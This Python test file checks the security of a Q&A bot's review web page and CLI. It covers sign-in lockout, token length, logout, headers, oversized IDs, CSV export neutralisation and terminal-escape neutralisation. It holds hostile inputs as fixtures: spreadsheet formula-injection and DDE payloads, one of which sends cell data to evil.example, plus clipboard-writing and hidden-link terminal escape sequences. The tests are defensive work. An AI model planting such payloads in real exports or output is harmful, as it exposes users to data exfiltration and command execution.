"""Issue 13, item 9: the review page and the review commands against a hostile founder (who
writes the questions) and a guessing visitor (who does not have the token)."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from fastapi.testclient import TestClient

from bot.answer_log import AnswerLog
from bot.models import Answer, AnswerMode, Source
from bot.review import web
from bot.review.auth import COOKIE_NAME, SessionSigner, SignInLimiter, TokenTooShortError
from bot.review.server import build_app
from bot.review.settings import ReviewWebSettings
from bot.review.web import create_app
from tests.conftest import make_settings
from tests.helpers import cli_runner

TOKEN = "attack-review-token-5150"
HUGE = "9" * 30
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"자세히")', "+cmd|' /C calc'!A0",
            "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "＝1+1"]
# ESC ] 52 (write the clipboard), ESC [ 2 J (clear the screen), OSC 8 (a hidden link), BEL,
# a one-byte CSI, and a right-to-left override.
ESCAPES = ("질문\x1b]52;c;ZXZpbA==\x07 \x1b[2J\x1b[31m빨강\x1b[0m "
           "\x1b]8;;http://evil.example\x1b\\링크\x1b]8;;\x1b\\ \x9b31m \u202e뒤집기")


def hostile_answer(question: str) -> Answer:
    return Answer(question=question, query=question, answer=f"답변 {question} [1]",
                  mode=AnswerMode.EXTRACTIVE, notice=question,
                  sources=[Source(number=1, title=question, source="x.md", chunk_id="x-1")])


@pytest.fixture
def log(tmp_path: Path):
    log = AnswerLog.from_settings(make_settings(tmp_path / "data"))
    yield log
    log.close()


@pytest.fixture
def client(log: AnswerLog, monkeypatch: pytest.MonkeyPatch) -> TestClient:
    monkeypatch.setattr(web, "FAILED_SIGN_IN_DELAY_S", 0.0)
    app = create_app(log_=log, corrections=None, token=TOKEN,
                     limiter=SignInLimiter(max_failures=5, window_s=300))
    return TestClient(app, base_url="http://127.0.0.1", raise_server_exceptions=False)


def sign_in(client: TestClient) -> str:
    response = client.post("/login", data={"token": TOKEN}, follow_redirects=False)
    assert response.status_code == 303
    return response.cookies[COOKIE_NAME]


# --- brute force and token length -----------------------------------------------------------
def test_guessing_the_token_is_locked_out_after_a_few_tries(client: TestClient) -> None:
    codes = [client.post("/login", data={"token": f"guess-{i:04d}-xxxxxxxx"},
                         follow_redirects=False).status_code for i in range(60)]
    assert codes[:5] == [401] * 5 and set(codes[5:]) == {429}
    locked = client.post("/login", data={"token": TOKEN}, follow_redirects=False)
    assert locked.status_code == 429  # even the right token waits out the window
    assert int(locked.headers["retry-after"]) > 0 and "너무 많습니다" in locked.text


def test_the_lock_lifts_after_the_window() -> None:
    now = [1000.0]
    limiter = SignInLimiter(max_failures=3, window_s=60, clock=lambda: now[0])
    for _ in range(3):
        limiter.failed("1.2.3.4")
    assert limiter.retry_after("1.2.3.4") == 60 and limiter.retry_after("5.6.7.8") == 0
    now[0] += 61
    assert limiter.retry_after("1.2.3.4") == 0


def test_many_addresses_together_are_limited_too() -> None:
    limiter = SignInLimiter(max_failures=2, window_s=60)
    for i in range(20):
        limiter.failed(f"10.0.0.{i}")
    assert limiter.retry_after("10.9.9.9") > 0


@pytest.mark.parametrize("token", ["", "short", "fifteen-chars-x"])
def test_short_tokens_are_refused(token: str) -> None:
    with pytest.raises(TokenTooShortError, match="16자 이상"):
        SessionSigner(token, max_age_s=60)


def test_review_web_refuses_a_short_token_with_a_message(monkeypatch, tmp_path: Path) -> None:
    run = cli_runner(monkeypatch, env={"STARTUPBOT_DATA_DIR": str(tmp_path / "d"),
                                       "STARTUPBOT_REVIEW_TOKEN": "letmein"})
    result = run("review", "--web")
    assert result.exit_code == 2 and "16자 이상" in result.stderr


# --- logout, cookie, headers ------------------------------------------------------------------
def test_logout_ends_the_session_on_the_server(client: TestClient, log: AnswerLog) -> None:
    cookie = sign_in(client)
    assert client.get("/", follow_redirects=False).status_code == 200
    client.post("/logout", follow_redirects=False)
    replay = TestClient(client.app, base_url="http://127.0.0.1")
    replay.cookies.set(COOKIE_NAME, cookie)  # someone kept a copy of the cookie
    assert replay.get("/", follow_redirects=False).status_code == 303
    assert replay.get("/export", follow_redirects=False).status_code == 303


def test_secure_cookie_setting_marks_the_cookie(log: AnswerLog) -> None:
    settings = make_settings(Path(log.url.removeprefix("sqlite:///")).parent,
                             review_token=TOKEN)
    for secure in (False, True):
        app = build_app(settings, log, None, ReviewWebSettings(review_secure_cookie=secure))
        response = TestClient(app, base_url="https://review.example").post(
            "/login", data={"token": TOKEN}, follow_redirects=False)
        assert ("secure" in response.headers["set-cookie"].lower()) is secure


def test_every_response_has_csp_and_nosniff(client: TestClient) -> None:
    sign_in(client)
    for path in ("/login", "/", "/stats", "/export", "/answers/1", "/healthz", "/nope"):
        response = client.get(path, follow_redirects=False)
        assert "default-src 'none'" in response.headers["content-security-policy"], path
        assert "script-src" not in response.headers["content-security-policy"]
        assert response.headers["x-content-type-options"] == "nosniff", path


# --- huge integers ----------------------------------------------------------------------------
def test_huge_integers_in_urls_are_not_server_errors(client: TestClient, log: AnswerLog) -> None:
    log.record(hostile_answer("팁스?"), channel="cli")
    sign_in(client)
    csrf = re.search(r'name="csrf" value="([0-9a-f]+)"',
                     client.get("/answers/1").text).group(1)
    assert client.get(f"/answers/{HUGE}").status_code == 404
    assert client.get(f"/answers/-{HUGE}").status_code == 404
    assert client.get(f"/?page={HUGE}").status_code == 200
    assert client.post(f"/answers/{HUGE}/mark", data={"csrf": csrf}).status_code == 404
    assert client.get(f"/stats?days={HUGE}").status_code == 200


def test_review_show_with_a_huge_id_says_not_found(monkeypatch, tmp_path: Path) -> None:
    run = cli_runner(monkeypatch, env={"STARTUPBOT_DATA_DIR": str(tmp_path / "d")})
    result = run("review", "show", HUGE)
    assert result.exit_code == 1 and "찾을 수 없습니다" in result.stderr
    assert run("review", "list", "--page", HUGE).exit_code == 0


# --- exports ----------------------------------------------------------------------------------
def _cells(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"))))


def test_csv_exports_never_start_a_cell_with_a_formula(client: TestClient, log: AnswerLog,
                                                       monkeypatch, tmp_path: Path) -> None:
    for formula in FORMULAS:
        log.record(hostile_answer(formula), channel="telegram")
    sign_in(client)
    web_rows = _cells(client.get("/export?format=csv").text)
    run = cli_runner(monkeypatch, env={"STARTUPBOT_DATA_DIR": str(tmp_path / "data")})
    target = tmp_path / "out.csv"
    assert run("review", "export", "-o", str(target)).exit_code == 0
    cli_rows = _cells(target.read_text(encoding="utf-8-sig"))
    for rows in (web_rows, cli_rows):
        assert len(rows) == len(FORMULAS)
        for row in rows:
            for value in row.values():
                assert not value.startswith(("=", "+", "-", "@", "\t", "\r", "＝")), value
        assert {r["question"] for r in rows} == {"'" + f for f in FORMULAS}  # kept, as text


def test_cli_csv_export_has_a_bom_by_default(monkeypatch, tmp_path: Path, log: AnswerLog
                                             ) -> None:
    run = cli_runner(monkeypatch, env={"STARTUPBOT_DATA_DIR": str(tmp_path / "data")})
    log.record(hostile_answer("팁스 지원 금액은?"), channel="cli")
    target = tmp_path / "a.csv"
    assert run("review", "export", "-o", str(target)).exit_code == 0
    assert target.read_bytes().startswith(b"\xef\xbb\xbf")
    assert run("review", "export").stdout.startswith("\ufeff")
    assert run("review", "export", "--no-excel", "-o", str(target)).exit_code == 0
    assert not target.read_bytes().startswith(b"\xef\xbb\xbf")
    assert not run("review", "export", "-f", "jsonl").stdout.startswith("\ufeff")


# --- terminal escapes -------------------------------------------------------------------------
def test_review_list_and_show_neutralise_terminal_escapes(monkeypatch, tmp_path: Path,
                                                          log: AnswerLog) -> None:
    answer_id = log.record(hostile_answer(ESCAPES), channel="telegram")
    log.set_feedback(answer_id, -1, ESCAPES)
    log.mark_reviewed(answer_id, ESCAPES)
    refused = hostile_answer(ESCAPES)
    refused.mode, refused.sources = AnswerMode.REFUSED, []
    log.record(refused, channel="telegram")  # shown by --refused and among stats' gaps
    run = cli_runner(monkeypatch, env={"STARTUPBOT_DATA_DIR": str(tmp_path / "data")})
    for args in (("review", "list"), ("review", "show", str(answer_id)),
                 ("review", "list", "--refused"), ("review", "stats")):
        result = run(*args, color=True)  # as on a terminal: rich's own colours are allowed
        assert result.exit_code == 0, result.output
        text = re.sub(r"\x1b\[[0-9;]*m", "", result.output)  # rich's SGR colour codes
        assert "\x1b" not in text and "\x07" not in text and "\x9b" not in text, repr(text)
        assert "\u202e" not in text
    shown = run("review", "show", str(answer_id)).output
    assert "\\x1b]52" in shown and "빨강" in shown  # visible, not acted on
